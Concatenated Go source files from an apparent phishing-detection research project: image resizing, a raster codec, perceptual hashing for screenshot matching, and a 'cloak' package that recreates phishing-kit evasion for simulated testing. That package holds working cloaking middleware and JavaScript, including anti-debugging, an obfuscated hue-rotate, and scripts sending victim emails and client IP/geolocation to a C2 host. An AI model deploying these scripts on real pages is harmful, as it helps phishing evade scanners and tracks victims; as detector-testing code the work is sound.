	if w <= 0 || h <= 0 {
		return nil, fmt.Errorf("%w: %dx%d", ErrBadDimensions, w, h)
	}
	img := &Image{W: w, H: h, Pix: make([]RGB, w*h)}
	for i := range img.Pix {
		img.Pix[i] = fill
	}
	return img, nil
}

// MustNew is New for statically valid dimensions; it panics on error and is
// intended for tests and fixed-size internal buffers.
func MustNew(w, h int, fill RGB) *Image {
	img, err := New(w, h, fill)
	if err != nil {
		panic(err)
	}
	return img
}

// In reports whether (x, y) lies inside the image.
func (m *Image) In(x, y int) bool {
	return x >= 0 && x < m.W && y >= 0 && y < m.H
}

// At returns the pixel at (x, y); out-of-bounds reads return White.
func (m *Image) At(x, y int) RGB {
	if !m.In(x, y) {
		return White
	}
	return m.Pix[y*m.W+x]
}

// Set writes the pixel at (x, y); out-of-bounds writes are ignored.
func (m *Image) Set(x, y int, c RGB) {
	if m.In(x, y) {
		m.Pix[y*m.W+x] = c
	}
}

// Clone returns a deep copy.
func (m *Image) Clone() *Image {
	out := &Image{W: m.W, H: m.H, Pix: make([]RGB, len(m.Pix))}
	copy(out.Pix, m.Pix)
	return out
}

// FillRect fills the rectangle [x0,x1) x [y0,y1) with c, clipped to bounds.
func (m *Image) FillRect(x0, y0, x1, y1 int, c RGB) {
	for y := max(0, y0); y < min(m.H, y1); y++ {
		for x := max(0, x0); x < min(m.W, x1); x++ {
			m.Pix[y*m.W+x] = c
		}
	}
}

// Gray returns the luma (ITU-R BT.601) of the pixel at (x, y) in [0, 255].
func (m *Image) Gray(x, y int) float64 {
	c := m.At(x, y)
	return 0.299*float64(c.R) + 0.587*float64(c.G) + 0.114*float64(c.B)
}

// Resize returns a bilinear-resampled copy with the given dimensions.
func (m *Image) Resize(w, h int) (*Image, error) {
	if w <= 0 || h <= 0 {
		return nil, fmt.Errorf("%w: %dx%d", ErrBadDimensions, w, h)
	}
	out := &Image{W: w, H: h, Pix: make([]RGB, w*h)}
	xr := float64(m.W) / float64(w)
	yr := float64(m.H) / float64(h)
	for y := 0; y < h; y++ {
		sy := (float64(y)+0.5)*yr - 0.5
		y0 := int(math.Floor(sy))
		fy := sy - float64(y0)
		y1 := y0 + 1
		y0 = clamp(y0, 0, m.H-1)
		y1 = clamp(y1, 0, m.H-1)
		for x := 0; x < w; x++ {
			sx := (float64(x)+0.5)*xr - 0.5
			x0 := int(math.Floor(sx))
			fx := sx - float64(x0)
			x1 := x0 + 1
			x0 = clamp(x0, 0, m.W-1)
			x1 = clamp(x1, 0, m.W-1)
			c00 := m.Pix[y0*m.W+x0]
			c10 := m.Pix[y0*m.W+x1]
			c01 := m.Pix[y1*m.W+x0]
			c11 := m.Pix[y1*m.W+x1]
			out.Pix[y*w+x] = RGB{
				R: lerp2(c00.R, c10.R, c01.R, c11.R, fx, fy),
				G: lerp2(c00.G, c10.G, c01.G, c11.G, fx, fy),
				B: lerp2(c00.B, c10.B, c01.B, c11.B, fx, fy),
			}
		}
	}
	return out, nil
}

// ResizeBox returns an area-averaged (box filter) downsample with the given
// dimensions. Unlike point-sampled bilinear resizing, every source pixel
// contributes, which strongly attenuates per-pixel noise — the property the
// perceptual hashes rely on.
func (m *Image) ResizeBox(w, h int) (*Image, error) {
	if w <= 0 || h <= 0 {
		return nil, fmt.Errorf("%w: %dx%d", ErrBadDimensions, w, h)
	}
	out := &Image{W: w, H: h, Pix: make([]RGB, w*h)}
	for y := 0; y < h; y++ {
		sy0 := y * m.H / h
		sy1 := (y + 1) * m.H / h
		if sy1 <= sy0 {
			sy1 = sy0 + 1
		}
		for x := 0; x < w; x++ {
			sx0 := x * m.W / w
			sx1 := (x + 1) * m.W / w
			if sx1 <= sx0 {
				sx1 = sx0 + 1
			}
			// Accumulate in integers: channel sums are exact in both int
			// and float64 (well under 2^53), so dividing once at the end
			// yields bit-identical results to float accumulation while
			// skipping three conversions per source pixel.
			var r, g, b, n int
			for sy := sy0; sy < sy1 && sy < m.H; sy++ {
				row := m.Pix[sy*m.W+sx0 : sy*m.W+min(sx1, m.W)]
				for _, c := range row {
					r += int(c.R)
					g += int(c.G)
					b += int(c.B)
				}
				n += len(row)
			}
			if n == 0 {
				n = 1
			}
			fn := float64(n)
			out.Pix[y*w+x] = RGB{
				R: clampU8(int(math.Round(float64(r) / fn))),
				G: clampU8(int(math.Round(float64(g) / fn))),
				B: clampU8(int(math.Round(float64(b) / fn))),
			}
		}
	}
	return out, nil
}

// Crop returns the sub-image [x0,x1) x [y0,y1), clipped to bounds.
func (m *Image) Crop(x0, y0, x1, y1 int) (*Image, error) {
	x0, y0 = max(0, x0), max(0, y0)
	x1, y1 = min(m.W, x1), min(m.H, y1)
	if x1 <= x0 || y1 <= y0 {
		return nil, fmt.Errorf("%w: crop [%d,%d)x[%d,%d)", ErrBadDimensions, x0, x1, y0, y1)
	}
	out := &Image{W: x1 - x0, H: y1 - y0, Pix: make([]RGB, (x1-x0)*(y1-y0))}
	for y := y0; y < y1; y++ {
		copy(out.Pix[(y-y0)*out.W:(y-y0+1)*out.W], m.Pix[y*m.W+x0:y*m.W+x1])
	}
	return out, nil
}

// AddNoise perturbs every channel by a uniform value in [-amplitude,
// +amplitude], clamped to [0, 255]. It mutates the image in place.
func (m *Image) AddNoise(rng *rand.Rand, amplitude int) {
	if amplitude <= 0 {
		return
	}
	for i := range m.Pix {
		m.Pix[i] = RGB{
			R: clampU8(int(m.Pix[i].R) + rng.Intn(2*amplitude+1) - amplitude),
			G: clampU8(int(m.Pix[i].G) + rng.Intn(2*amplitude+1) - amplitude),
			B: clampU8(int(m.Pix[i].B) + rng.Intn(2*amplitude+1) - amplitude),
		}
	}
}

// HueRotate applies the SVG/CSS hue-rotate(degrees) color matrix in place —
// the exact filter threat actors inject into phishing pages to perturb
// visual-similarity detectors.
func (m *Image) HueRotate(degrees float64) {
	rad := degrees * math.Pi / 180
	cosA, sinA := math.Cos(rad), math.Sin(rad)
	// Coefficients from the SVG feColorMatrix hueRotate specification.
	a00 := 0.213 + cosA*0.787 - sinA*0.213
	a01 := 0.715 - cosA*0.715 - sinA*0.715
	a02 := 0.072 - cosA*0.072 + sinA*0.928
	a10 := 0.213 - cosA*0.213 + sinA*0.143
	a11 := 0.715 + cosA*0.285 + sinA*0.140
	a12 := 0.072 - cosA*0.072 - sinA*0.283
	a20 := 0.213 - cosA*0.213 - sinA*0.787
	a21 := 0.715 - cosA*0.715 + sinA*0.715
	a22 := 0.072 + cosA*0.928 + sinA*0.072
	for i := range m.Pix {
		r := float64(m.Pix[i].R)
		g := float64(m.Pix[i].G)
		b := float64(m.Pix[i].B)
		m.Pix[i] = RGB{
			R: clampU8(int(math.Round(a00*r + a01*g + a02*b))),
			G: clampU8(int(math.Round(a10*r + a11*g + a12*b))),
			B: clampU8(int(math.Round(a20*r + a21*g + a22*b))),
		}
	}
}

// Equal reports whether two images have identical dimensions and pixels.
func (m *Image) Equal(other *Image) bool {
	if m.W != other.W || m.H != other.H {
		return false
	}
	for i := range m.Pix {
		if m.Pix[i] != other.Pix[i] {
			return false
		}
	}
	return true
}

func lerp2(c00, c10, c01, c11 uint8, fx, fy float64) uint8 {
	top := float64(c00)*(1-fx) + float64(c10)*fx
	bot := float64(c01)*(1-fx) + float64(c11)*fx
	return clampU8(int(math.Round(top*(1-fy) + bot*fy)))
}

func clamp(v, lo, hi int) int {
	if v < lo {
		return lo
	}
	if v > hi {
		return hi
	}
	return v
}

func clampU8(v int) uint8 {
	return uint8(clamp(v, 0, 255))
}
