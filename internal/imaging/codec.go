package imaging

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// The CBI ("CrawlerBox Image") format is a trivial uncompressed raster
// container: a 4-byte magic, width and height as big-endian uint32, then
// packed RGB triples. It stands in for the PNG/JPEG attachments of the
// original corpus so that the parsing phase exercises a real binary
// decode path, including magic-number sniffing for
// application/octet-stream parts.

// CBIMagic is the file signature of the CBI raster format.
var CBIMagic = []byte{'C', 'B', 'I', 'M'}

// ErrNotCBI is returned when decoding bytes that are not a CBI image.
var ErrNotCBI = errors.New("imaging: not a CBI image")

// EncodeCBI serializes an image to the CBI byte format.
func EncodeCBI(img *Image) []byte {
	out := make([]byte, 0, 12+3*len(img.Pix))
	out = append(out, CBIMagic...)
	var dims [8]byte
	binary.BigEndian.PutUint32(dims[0:4], uint32(img.W))
	binary.BigEndian.PutUint32(dims[4:8], uint32(img.H))
	out = append(out, dims[:]...)
	for _, p := range img.Pix {
		out = append(out, p.R, p.G, p.B)
	}
	return out
}

// DecodeCBI parses CBI bytes back into an image.
func DecodeCBI(data []byte) (*Image, error) {
	if len(data) < 12 || string(data[:4]) != string(CBIMagic) {
		return nil, ErrNotCBI
	}
	w := int(binary.BigEndian.Uint32(data[4:8]))
	h := int(binary.BigEndian.Uint32(data[8:12]))
	if w <= 0 || h <= 0 || w > 1<<14 || h > 1<<14 {
		return nil, fmt.Errorf("imaging: implausible CBI dimensions %dx%d", w, h)
	}
	need := 12 + 3*w*h
	if len(data) < need {
		return nil, fmt.Errorf("imaging: truncated CBI: have %d bytes, need %d", len(data), need)
	}
	img := &Image{W: w, H: h, Pix: make([]RGB, w*h)}
	for i := range img.Pix {
		off := 12 + 3*i
		img.Pix[i] = RGB{R: data[off], G: data[off+1], B: data[off+2]}
	}
	return img, nil
}

// IsCBI sniffs the CBI magic number, the way the pipeline classifies
// application/octet-stream attachments.
func IsCBI(data []byte) bool {
	return len(data) >= 4 && string(data[:4]) == string(CBIMagic)
}
