package imaging

import (
	"math"
	"sort"

	"crawlerbox/internal/stats"
)

// PHash computes a 64-bit DCT-based perceptual hash: the image is resized to
// 32x32 grayscale, transformed with a 2D DCT-II, and the 8x8 lowest
// frequencies (excluding the DC term for the median) are thresholded at
// their median. Robust to scaling, mild cropping, noise, and — because it
// discards chroma — to the hue-rotate evasion.
func PHash(img *Image) uint64 {
	const side = 32
	small, err := img.ResizeBox(side, side)
	if err != nil {
		// Resize only fails on non-positive target dimensions; side is a
		// constant, so this is unreachable for a valid receiver.
		panic("imaging: internal resize failure: " + err.Error())
	}
	gray := make([]float64, side*side)
	for y := 0; y < side; y++ {
		for x := 0; x < side; x++ {
			gray[y*side+x] = small.Gray(x, y)
		}
	}
	freq := dct2d(gray, side)
	// Collect the top-left 8x8 block, skipping the DC coefficient.
	coeffs := make([]float64, 0, 63)
	for y := 0; y < 8; y++ {
		for x := 0; x < 8; x++ {
			if x == 0 && y == 0 {
				continue
			}
			coeffs = append(coeffs, freq[y*side+x])
		}
	}
	med := medianOf(coeffs)
	var hash uint64
	bit := 0
	for y := 0; y < 8; y++ {
		for x := 0; x < 8; x++ {
			if x == 0 && y == 0 {
				bit++
				continue
			}
			if freq[y*side+x] > med {
				hash |= 1 << uint(bit)
			}
			bit++
		}
	}
	return hash
}

// DHash computes a 64-bit difference hash: resize to 9x8 grayscale and set a
// bit when a pixel is brighter than its right neighbor.
func DHash(img *Image) uint64 {
	small, err := img.ResizeBox(9, 8)
	if err != nil {
		panic("imaging: internal resize failure: " + err.Error())
	}
	// The dead zone keeps flat regions stable under additive noise: after
	// box averaging, residual noise is well below 2 luma levels, while real
	// content edges differ by far more.
	const deadZone = 2.0
	var hash uint64
	bit := 0
	for y := 0; y < 8; y++ {
		for x := 0; x < 8; x++ {
			if small.Gray(x, y) > small.Gray(x+1, y)+deadZone {
				hash |= 1 << uint(bit)
			}
			bit++
		}
	}
	return hash
}

// FuzzyMatcher combines pHash and dHash with per-hash Hamming thresholds,
// reproducing CrawlerBox's spear-phishing screenshot classifier: an image
// matches a reference page only when BOTH hashes agree within threshold,
// which the paper reports performing better than either hash alone.
type FuzzyMatcher struct {
	// PHashMax and DHashMax are the maximum Hamming distances (inclusive)
	// at which the corresponding hash still counts as a match.
	PHashMax int
	DHashMax int
}

// DefaultMatcher returns the thresholds used by the pipeline. They are
// deliberately tight — the paper tunes its threshold to detect only the five
// protected login pages.
func DefaultMatcher() FuzzyMatcher {
	return FuzzyMatcher{PHashMax: 10, DHashMax: 12}
}

// Signature is the pair of fuzzy hashes for one screenshot.
type Signature struct {
	PHash uint64
	DHash uint64
}

// Sign computes both hashes for an image.
func Sign(img *Image) Signature {
	return Signature{PHash: PHash(img), DHash: DHash(img)}
}

// Match reports whether two signatures are similar under both thresholds,
// along with the individual distances.
func (fm FuzzyMatcher) Match(a, b Signature) (bool, int, int) {
	dp := stats.HammingDistance64(a.PHash, b.PHash)
	dd := stats.HammingDistance64(a.DHash, b.DHash)
	return dp <= fm.PHashMax && dd <= fm.DHashMax, dp, dd
}

// dct2d computes a 2D DCT-II of a side x side block using the separable
// row-column method with precomputed cosine tables.
func dct2d(data []float64, side int) []float64 {
	cosTable := make([]float64, side*side)
	for k := 0; k < side; k++ {
		for n := 0; n < side; n++ {
			cosTable[k*side+n] = math.Cos(math.Pi * float64(k) * (2*float64(n) + 1) / (2 * float64(side)))
		}
	}
	tmp := make([]float64, side*side)
	// Rows.
	for y := 0; y < side; y++ {
		for k := 0; k < side; k++ {
			var sum float64
			for n := 0; n < side; n++ {
				sum += data[y*side+n] * cosTable[k*side+n]
			}
			tmp[y*side+k] = sum
		}
	}
	out := make([]float64, side*side)
	// Columns.
	for x := 0; x < side; x++ {
		for k := 0; k < side; k++ {
			var sum float64
			for n := 0; n < side; n++ {
				sum += tmp[n*side+x] * cosTable[k*side+n]
			}
			out[k*side+x] = sum
		}
	}
	return out
}

func medianOf(xs []float64) float64 {
	cp := make([]float64, len(xs))
	copy(cp, xs)
	sort.Float64s(cp)
	n := len(cp)
	if n == 0 {
		return 0
	}
	if n%2 == 1 {
		return cp[n/2]
	}
	return (cp[n/2-1] + cp[n/2]) / 2
}
