package imaging

import (
	"math"
	"slices"

	"crawlerbox/internal/stats"
)

// phashSide is the downsample side length of the DCT-based perceptual hash.
const phashSide = 32

// phashCos is the DCT-II cosine kernel for a phashSide-point transform,
// precomputed once at package init. Rebuilding it per PHash call (1024
// math.Cos evaluations and an 8 KiB allocation) used to dominate the
// hash's allocation profile; the kernel depends only on the transform
// size, so it is hoisted to package level and shared by every call.
var phashCos [phashSide * phashSide]float64

func init() {
	for k := 0; k < phashSide; k++ {
		for n := 0; n < phashSide; n++ {
			phashCos[k*phashSide+n] = math.Cos(math.Pi * float64(k) * (2*float64(n) + 1) / (2 * phashSide))
		}
	}
}

// PHash computes a 64-bit DCT-based perceptual hash: the image is resized to
// 32x32 grayscale, transformed with a 2D DCT-II, and the 8x8 lowest
// frequencies (excluding the DC term for the median) are thresholded at
// their median. Robust to scaling, mild cropping, noise, and — because it
// discards chroma — to the hue-rotate evasion.
//
// The working buffers are fixed-size stack arrays and the cosine kernel is
// the package-level phashCos table, so the only heap allocations per call
// are the downsampled 32x32 image.
func PHash(img *Image) uint64 {
	const side = phashSide
	small, err := img.ResizeBox(side, side)
	if err != nil {
		// Resize only fails on non-positive target dimensions; side is a
		// constant, so this is unreachable for a valid receiver.
		panic("imaging: internal resize failure: " + err.Error())
	}
	var gray [side * side]float64
	for i, c := range small.Pix {
		gray[i] = 0.299*float64(c.R) + 0.587*float64(c.G) + 0.114*float64(c.B)
	}
	var tmp, freq [side * side]float64
	dct2d(&gray, &tmp, &freq)
	// Collect the top-left 8x8 block, skipping the DC coefficient, and
	// threshold at the median (the 32nd order statistic of 63 values).
	var coeffs [63]float64
	i := 0
	for y := 0; y < 8; y++ {
		for x := 0; x < 8; x++ {
			if x == 0 && y == 0 {
				continue
			}
			coeffs[i] = freq[y*side+x]
			i++
		}
	}
	sorted := coeffs
	slices.Sort(sorted[:])
	med := sorted[31]
	var hash uint64
	bit := 0
	for y := 0; y < 8; y++ {
		for x := 0; x < 8; x++ {
			if x == 0 && y == 0 {
				bit++
				continue
			}
			if freq[y*side+x] > med {
				hash |= 1 << uint(bit)
			}
			bit++
		}
	}
	return hash
}

// DHash computes a 64-bit difference hash: resize to 9x8 grayscale and set a
// bit when a pixel is brighter than its right neighbor.
func DHash(img *Image) uint64 {
	small, err := img.ResizeBox(9, 8)
	if err != nil {
		panic("imaging: internal resize failure: " + err.Error())
	}
	// The dead zone keeps flat regions stable under additive noise: after
	// box averaging, residual noise is well below 2 luma levels, while real
	// content edges differ by far more.
	const deadZone = 2.0
	var hash uint64
	bit := 0
	for y := 0; y < 8; y++ {
		for x := 0; x < 8; x++ {
			if small.Gray(x, y) > small.Gray(x+1, y)+deadZone {
				hash |= 1 << uint(bit)
			}
			bit++
		}
	}
	return hash
}

// FuzzyMatcher combines pHash and dHash with per-hash Hamming thresholds,
// reproducing CrawlerBox's spear-phishing screenshot classifier: an image
// matches a reference page only when BOTH hashes agree within threshold,
// which the paper reports performing better than either hash alone.
type FuzzyMatcher struct {
	// PHashMax and DHashMax are the maximum Hamming distances (inclusive)
	// at which the corresponding hash still counts as a match.
	PHashMax int
	DHashMax int
}

// DefaultMatcher returns the thresholds used by the pipeline. They are
// deliberately tight — the paper tunes its threshold to detect only the five
// protected login pages.
func DefaultMatcher() FuzzyMatcher {
	return FuzzyMatcher{PHashMax: 10, DHashMax: 12}
}

// Signature is the pair of fuzzy hashes for one screenshot.
type Signature struct {
	PHash uint64
	DHash uint64
}

// Sign computes both hashes for an image.
func Sign(img *Image) Signature {
	return Signature{PHash: PHash(img), DHash: DHash(img)}
}

// Match reports whether two signatures are similar under both thresholds,
// along with the individual distances.
func (fm FuzzyMatcher) Match(a, b Signature) (bool, int, int) {
	dp := stats.HammingDistance64(a.PHash, b.PHash)
	dd := stats.HammingDistance64(a.DHash, b.DHash)
	return dp <= fm.PHashMax && dd <= fm.DHashMax, dp, dd
}

// dct2d computes a 2D DCT-II of a phashSide x phashSide block using the
// separable row-column method against the package-level cosine kernel,
// writing intermediates into tmp and the result into out. All three
// buffers are caller-provided so the transform itself allocates nothing.
func dct2d(data, tmp, out *[phashSide * phashSide]float64) {
	const side = phashSide
	// Rows.
	for y := 0; y < side; y++ {
		row := data[y*side : (y+1)*side]
		for k := 0; k < side; k++ {
			cos := phashCos[k*side : (k+1)*side]
			var sum float64
			for n := 0; n < side; n++ {
				sum += row[n] * cos[n]
			}
			tmp[y*side+k] = sum
		}
	}
	// Columns.
	for x := 0; x < side; x++ {
		for k := 0; k < side; k++ {
			cos := phashCos[k*side : (k+1)*side]
			var sum float64
			for n := 0; n < side; n++ {
				sum += tmp[n*side+x] * cos[n]
			}
			out[k*side+x] = sum
		}
	}
}
