package cloak

import (
	"fmt"
)

// Client-side cloak script generators. Each returns JavaScript that the
// phishkit embeds in its gate pages; the scripts run in the simulated
// browser exactly as the corpus scripts ran in Chrome.

// FingerprintGate reveals base64-encoded content only when the user agent
// contains uaNeedle, the Intl timezone equals timezone, and the navigator
// language equals language — the triple observed on 15+ corpus messages.
func FingerprintGate(uaNeedle, timezone, language, contentB64 string) string {
	return fmt.Sprintf(`
	(function() {
		var ua = navigator.userAgent;
		var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
		var lang = navigator.language || navigator.userLanguage;
		if (ua.indexOf(%q) >= 0 && tz === %q && lang === %q) {
			document.body.setInnerHTML(atob(%q));
		}
	})();
	`, uaNeedle, timezone, language, contentB64)
}

// InteractionGate reveals content only after a trusted input event — the
// user-interaction cloak class.
func InteractionGate(contentB64 string) string {
	return fmt.Sprintf(`
	document.addEventListener("mousemove", function(e) {
		if (e.isTrusted) {
			document.body.setInnerHTML(atob(%q));
		}
	});
	`, contentB64)
}

// DelayedReveal shows the content after delayMs of quiet — the bot-behavior
// cloak that outlasts impatient scanners.
func DelayedReveal(contentB64 string, delayMs int) string {
	return fmt.Sprintf(`
	setTimeout(function() {
		document.body.setInnerHTML(atob(%q));
	}, %d);
	`, contentB64, delayMs)
}

// OTPGate requires a one-time password (sent in a separate message) before
// the malicious login page is shown. Security scanners visiting the URL see
// only the prompt — 47 corpus messages used this.
func OTPGate(code, redirectPath string) string {
	return fmt.Sprintf(`
	function __otpCheck() {
		var entered = document.getElementById("otp").value;
		if (entered === %q) {
			location.href = %q;
		} else {
			document.getElementById("msg").setInnerHTML("Invalid code.");
		}
	}
	`, code, redirectPath)
}

// OTPGatePage is the full OTP prompt document.
func OTPGatePage(code, redirectPath string) string {
	return `<html><body>
<p>For your security, enter the access code we sent you separately.</p>
<input id="otp" type="text" name="otp">
<button onclick="__otpCheck()">Continue</button>
<div id="msg"></div>
<script>` + OTPGate(code, redirectPath) + `</script>
</body></html>`
}

// MathChallenge is the custom challenge–response gate (11 corpus messages):
// solve a trivial equation to proceed. Trivial for a human, but it requires
// custom automation per kit.
func MathChallenge(a, b int, redirectPath string) string {
	return fmt.Sprintf(`<html><body>
<p>Please verify you are human: what is %d + %d?</p>
<input id="answer" type="text" name="answer">
<button onclick="__mathCheck()">Verify</button>
<div id="msg"></div>
<script>
function __mathCheck() {
	var v = parseInt(document.getElementById("answer").value, 10);
	if (v === %d) {
		location.href = %q;
	} else {
		document.getElementById("msg").setInnerHTML("Wrong answer.");
	}
}
</script>
</body></html>`, a, b, a+b, redirectPath)
}

// ConsoleHijack redefines the console methods to hamper analysis — seen on
// at least 295 corpus messages.
func ConsoleHijack() string {
	return `
	(function() {
		var noop = function() { return undefined; };
		console.log = noop;
		console.warn = noop;
		console.error = noop;
		console.info = noop;
		console.debug = noop;
	})();
	`
}

// DebuggerTimer starts the anti-debugging loop (10+ corpus messages): every
// second, record the time, hit the debugger statement, record again — a
// paused debugger shows up as elapsed time.
func DebuggerTimer(c2Host string) string {
	return fmt.Sprintf(`
	setInterval(function() {
		var t1 = Date.now();
		debugger;
		var t2 = Date.now();
		if (t2 - t1 > 100) {
			var x = new XMLHttpRequest();
			x.open("GET", "https://%s/debug-detected", false);
			x.send();
		}
	}, 1000);
	`, c2Host)
}

// BlockDevtools disables the context menu and inspection shortcuts (39
// corpus messages).
func BlockDevtools() string {
	return `
	document.addEventListener("contextmenu", function(e) { e.preventDefault(); });
	document.addEventListener("keydown", function(e) {
		if (e.key === "F12" || (e.ctrlKey && e.shiftKey)) { e.preventDefault(); }
	});
	`
}

// HueRotate is the visual-similarity evasion found on 167 pages: a
// base64-carried snippet prepended to <head> that rotates the whole
// document's hue by a few degrees.
func HueRotate(degrees int) string {
	// The corpus carries the filter value base64-encoded; the script
	// decodes it at run time before installing the style, so static
	// scanners never see the literal "hue-rotate" string.
	payload := EncodeBase64HTML(fmt.Sprintf("hue-rotate(%ddeg)", degrees))
	return fmt.Sprintf(`
	(function() {
		document.documentElement.style.filter = atob(%q);
	})();
	`, payload)
}

// VictimCheck is the obfuscated script shared across 38 corpus domains
// (151 messages): extract the victim's base64 email from the URL fragment
// or token, validate it with a regex, then synchronously ask the C2 whether
// this address is in the target database; only then reveal the page.
func VictimCheck(c2Host, contentB64 string) string {
	return fmt.Sprintf(`
	(function() {
		var raw = location.hash;
		if (raw.length > 1) { raw = raw.slice(1); } else { return; }
		var email = "";
		try { email = atob(raw); } catch (e) { return; }
		var re = new RegExp("^[a-zA-Z0-9._%%+-]+@[a-zA-Z0-9.-]+\\.[a-zA-Z]{2,}$");
		if (!re.test(email)) { return; }
		var x = new XMLHttpRequest();
		x.open("GET", "https://%s/check?email=" + encodeURIComponent(email), false);
		x.send();
		if (x.status === 200 && x.responseText === "allow") {
			document.body.setInnerHTML(atob(%q));
		}
	})();
	`, c2Host, contentB64)
}

// NoisePadding generates the message-level evasion of Section V-C1: a long
// run of line breaks followed by random-looking filler text that dilutes
// content-based classifiers. The filler is deterministic in seed.
func NoisePadding(seed, lineBreaks, words int) string {
	out := make([]byte, 0, lineBreaks+words*8)
	for i := 0; i < lineBreaks; i++ {
		out = append(out, '\n')
	}
	state := uint64(seed)*6364136223846793005 + 1442695040888963407
	const letters = "abcdefghijklmnopqrstuvwxyz"
	for w := 0; w < words; w++ {
		n := 3 + int(state%8)
		for i := 0; i < n; i++ {
			state = state*6364136223846793005 + 1442695040888963407
			out = append(out, letters[state%26])
		}
		out = append(out, ' ')
	}
	return string(out)
}
