// Package cloak implements the cloaking techniques of the paper's taxonomy
// (Section III) exactly as the corpus deploys them:
//
// Server-side (handler middlewares): delayed URL activation, User-Agent
// filtering, IP blocklists, geolocation filtering, and tokenized URLs.
//
// Client-side (script generators): fingerprint gates combining user agent,
// timezone and language; OTP and math challenge–response gates; console
// hijacking; debugger-timer anti-analysis; the hue-rotate(4deg) visual
// perturbation; and the victim-check script that validates the tokenized
// email against the attacker's C2 before revealing the page.
package cloak

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"crawlerbox/internal/webnet"
)

// BenignPage is the decoy served to filtered visitors — the "blank or
// innocuous screen" prior measurement studies kept running into.
const BenignPage = `<html><head><title>Under Construction</title></head>
<body><p>This page is under construction. Please check back later.</p></body></html>`

func benignResponse() *webnet.Response {
	return &webnet.Response{
		Status:  200,
		Headers: map[string]string{"Content-Type": "text/html"},
		Body:    []byte(BenignPage),
	}
}

// Middleware transforms a handler.
type Middleware func(webnet.Handler) webnet.Handler

// Chain applies middlewares left to right (the leftmost runs first).
func Chain(h webnet.Handler, mws ...Middleware) webnet.Handler {
	for i := len(mws) - 1; i >= 0; i-- {
		h = mws[i](h)
	}
	return h
}

// DelayedActivation serves the benign page before activateAt — the "send at
// night, activate in the morning" tactic that defeats delivery-time URL
// scanning.
func DelayedActivation(clock *webnet.Clock, activateAt time.Time) Middleware {
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			if clock.Now().Before(activateAt) {
				return benignResponse()
			}
			return next(req)
		}
	}
}

// UserAgentFilter reveals the page only to user agents containing one of
// the needles (e.g. mobile browsers for QR-code campaigns).
func UserAgentFilter(needles ...string) Middleware {
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			ua := req.Header("User-Agent")
			for _, n := range needles {
				if strings.Contains(ua, n) {
					return next(req)
				}
			}
			return benignResponse()
		}
	}
}

// IPClassBlocklist hides the page from blocked IP provenance classes
// (datacenter and security-vendor ranges on known-scanner lists).
func IPClassBlocklist(net *webnet.Internet, blocked ...webnet.IPClass) Middleware {
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			class := net.ClassOf(req.ClientIP)
			for _, b := range blocked {
				if class == b {
					return benignResponse()
				}
			}
			return next(req)
		}
	}
}

// IPBlocklist hides the page from specific addresses.
func IPBlocklist(blocked ...string) Middleware {
	set := make(map[string]bool, len(blocked))
	for _, ip := range blocked {
		set[ip] = true
	}
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			if set[req.ClientIP] {
				return benignResponse()
			}
			return next(req)
		}
	}
}

// GeoFilter reveals the page only to visitors from the listed countries —
// the region-targeting the paper inferred from the exfiltrated IP data.
func GeoFilter(net *webnet.Internet, countries ...string) Middleware {
	allowed := make(map[string]bool, len(countries))
	for _, c := range countries {
		allowed[strings.ToUpper(c)] = true
	}
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			if !allowed[strings.ToUpper(net.CountryOf(req.ClientIP))] {
				return benignResponse()
			}
			return next(req)
		}
	}
}

// TokenGate reveals the page only for requests whose URL carries a valid
// token in param (e.g. https://evil-site.com/dhfYWfH -> ?t=dhfYWfH). Tokens
// can be disabled individually, preventing even known-good URLs from
// displaying the content again.
type TokenGate struct {
	Param  string
	tokens map[string]bool // token -> enabled
}

// NewTokenGate builds a gate accepting the given tokens.
func NewTokenGate(param string, tokens ...string) *TokenGate {
	g := &TokenGate{Param: param, tokens: map[string]bool{}}
	for _, t := range tokens {
		g.tokens[t] = true
	}
	return g
}

// Disable turns off one token.
func (g *TokenGate) Disable(token string) {
	if _, ok := g.tokens[token]; ok {
		g.tokens[token] = false
	}
}

// Valid reports whether a token is known and enabled.
func (g *TokenGate) Valid(token string) bool {
	return g.tokens[token]
}

// Middleware returns the gate as a middleware.
func (g *TokenGate) Middleware() Middleware {
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			if g.Valid(queryValue(req.RawQuery, g.Param)) {
				return next(req)
			}
			return benignResponse()
		}
	}
}

func queryValue(raw, key string) string {
	for _, kv := range strings.Split(raw, "&") {
		parts := strings.SplitN(kv, "=", 2)
		if len(parts) == 2 && parts[0] == key {
			return parts[1]
		}
	}
	return ""
}

// NthVisitReveal serves the benign page for each client's first n-1
// requests and the real content from the n-th on — the bot-behavior cloak
// where "the page is reloaded with malicious content" after a scanner has
// already rendered its verdict. Clients are keyed by IP.
func NthVisitReveal(n int) Middleware {
	visits := map[string]int{}
	return func(next webnet.Handler) webnet.Handler {
		return func(req *webnet.Request) *webnet.Response {
			visits[req.ClientIP]++
			if visits[req.ClientIP] < n {
				return benignResponse()
			}
			return next(req)
		}
	}
}

// ExfiltrateClientInfo is the server-side-cloaking support script: before
// the landing page loads, the client's IP (via an httpbin-style service)
// enriched with geo data (via an ipapi-style service) is posted to the C2.
func ExfiltrateClientInfo(httpbinHost, ipapiHost, c2Host string) string {
	return fmt.Sprintf(`
	var __xa = new XMLHttpRequest();
	__xa.open("GET", "https://%s/ip", false);
	__xa.send();
	var __ip = __xa.responseText;
	var __xb = new XMLHttpRequest();
	__xb.open("GET", "https://%s/json?ip=" + __ip, false);
	__xb.send();
	var __geo = __xb.responseText;
	var __xc = new XMLHttpRequest();
	__xc.open("POST", "https://%s/collect", false);
	__xc.send(JSON.stringify({ip: __ip, geo: __geo, ua: navigator.userAgent}));
	`, httpbinHost, ipapiHost, c2Host)
}

// EncodeBase64HTML is a helper for scripts that decode their payloads with
// atob, the obfuscation carrier of the hue-rotate and victim-check scripts.
func EncodeBase64HTML(html string) string {
	return base64.StdEncoding.EncodeToString([]byte(html))
}
