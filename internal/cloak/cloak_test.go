package cloak

import (
	"context"

	"strings"
	"testing"
	"time"

